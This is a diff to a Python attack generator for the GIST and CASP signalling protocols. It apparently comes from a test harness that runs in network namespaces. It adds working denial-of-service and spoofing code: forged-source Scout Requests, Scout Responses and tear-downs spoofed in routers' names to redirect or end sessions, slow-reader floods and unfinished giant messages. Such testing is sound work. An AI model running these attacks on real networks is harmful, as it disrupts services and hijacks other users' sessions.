@@ -8,6 +8,7 @@ with the number of packets at the end. It runs in the network namespaces of the 
 """
 
 import ipaddress
+import itertools
 import json
 import os
 import random
@@ -20,6 +21,7 @@ import time
 
 MAGIC = bytes.fromhex("4e04bda5")
 GIST, UDP, RSVP = 270, 17, 46
+CASP, SCOUT = 50003, 50004
 ALERT = bytes.fromhex("94040000")
 PING, QOS = 32704, 1
 QUERY, RESPONSE, CONFIRM, DATA = 0, 1, 2, 3
@@ -348,9 +350,72 @@ def many_addresses(target):
     return addresses
 
 
+def casp_object(kind, contents):
+    return struct.pack("!HBB", 4 + len(contents), kind, 1) + contents
+
+
+def casp_message(kind, objects, flags=0, session=None):
+    """A message of CASP without its Length Header (docs/wire/casp.md)."""
+    return struct.pack("!BBBB", flags, 64, 0, kind) + (session or rng.randbytes(16)) + objects
+
+
+def casp_flow(src, dst):
+    return casp_object(1, ip(src) + ip(dst) + struct.pack("!HHB3x", rng.getrandbits(16) | 1, 5001, UDP))
+
+
+def scouts(target, dst):
+    """Scout Requests with forged sources: towards DST with Router Alert, so that the router intercepts them, and to the router
+    itself."""
+    for number in itertools.count():
+        request = casp_message(2, casp_object(5, rng.randbytes(8)), session=bytes(16))
+        to, alert = (ip(dst), True) if number % 2 else (ip(target), False)
+        yield packet(forged(), to, UDP, udp(request, SCOUT, SCOUT), alert=alert)
+
+
+def redirections(target, source, dst, *routers):
+    """What would move the sessions of SOURCE to this host, or end them: Scout Responses and tear-downs in the name of the
+    routers, and messages with cookies that nobody gave."""
+    for _ in itertools.count():
+        answer = casp_object(5, rng.randbytes(8)) + casp_object(6, rng.randbytes(8))
+        flow = casp_flow(source, dst)
+        for router in routers:
+            response = casp_message(3, answer, session=bytes(16))
+            yield packet(ip(router), ip(target), UDP, udp(response, SCOUT, SCOUT))
+            yield packet(ip(router), ip(target), UDP, udp(casp_message(1, flow, 0x40), CASP, CASP))
+        yield packet(forged(), ip(target), UDP, udp(casp_message(1, flow + casp_object(6, rng.randbytes(8))), CASP, CASP))
+
+
+def deaf(seconds, rate, target, dst, *_):
+    """Connections to the port of CASP that send messages with wrong cookies, which are to be answered, and read nothing."""
+    begin, sent, held = time.monotonic(), 0, []
+    for _ in range(8):
+        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+        connection.connect((target, CASP))
+        connection.setblocking(False)
+        held.append(connection)
+    own = held[0].getsockname()[0]
+    print("started", flush=True)
+    while (elapsed := time.monotonic() - begin) < seconds:
+        while sent < elapsed * rate:
+            message = casp_message(1, casp_flow(own, dst) + casp_object(6, rng.randbytes(8)))
+            sent += 1
+            try:
+                held[sent % len(held)].send(struct.pack("!I", 4 + len(message)) + message)
+            except OSError:
+                pass
+        time.sleep(0.002)
+    print(f"{sent} messages in {seconds:g} s, nothing read")
+
+
 def connections(seconds, rate, target, port=GIST, *_):
-    """TCP connections to a port of GIST that say nothing, as many as stay open, and new ones all the time (T14 to T16). With
-    IPv6 they come from many addresses of one /64."""
+    """TCP connections to a port that say nothing, as many as stay open, and new ones all the time (T14 to T16). With IPv6 they
+    come from many addresses of one /64."""
+    # The beginning of a message of GIST of 65,536 octets, or of one of CASP of 60,000, that never ends.
+    if int(port) == CASP:
+        begins = struct.pack("!I", 60000) + casp_message(1, b"") + os.urandom(50000)
+    else:
+        begins = struct.pack("!BBHHBB", 1, 64, 0x3FFF, PING, DATA, 0) + os.urandom(60000)
     selector, opened, refused = selectors.DefaultSelector(), 0, 0
     own = many_addresses(target)
     family = socket.AF_INET6 if ":" in target else socket.AF_INET
@@ -368,14 +433,13 @@ def connections(seconds, rate, target, port=GIST, *_):
                 opened += 1
                 held.append(connection)
                 if opened % 2:
-                    # The beginning of a message of 65,536 octets that never ends.
                     selector.register(connection, selectors.EVENT_WRITE)
             else:
                 refused += 1
         for key, _ in selector.select(0):
             selector.unregister(key.fileobj)
             try:
-                key.fileobj.send(struct.pack("!BBHHBB", 1, 64, 0x3FFF, PING, DATA, 0) + os.urandom(60000))
+                key.fileobj.send(begins)
             except OSError:
                 pass
         while len(held) > 900:
@@ -387,7 +451,7 @@ def connections(seconds, rate, target, port=GIST, *_):
 def main():
     kind, seconds, rate, target, *rest = sys.argv[1:]
     attack = globals()[kind]
-    if kind in ("identities", "connections"):
+    if kind in ("identities", "connections", "deaf"):
         attack(float(seconds), float(rate), target, *rest)
     else:
         send(attack(target, *rest), float(seconds), float(rate))
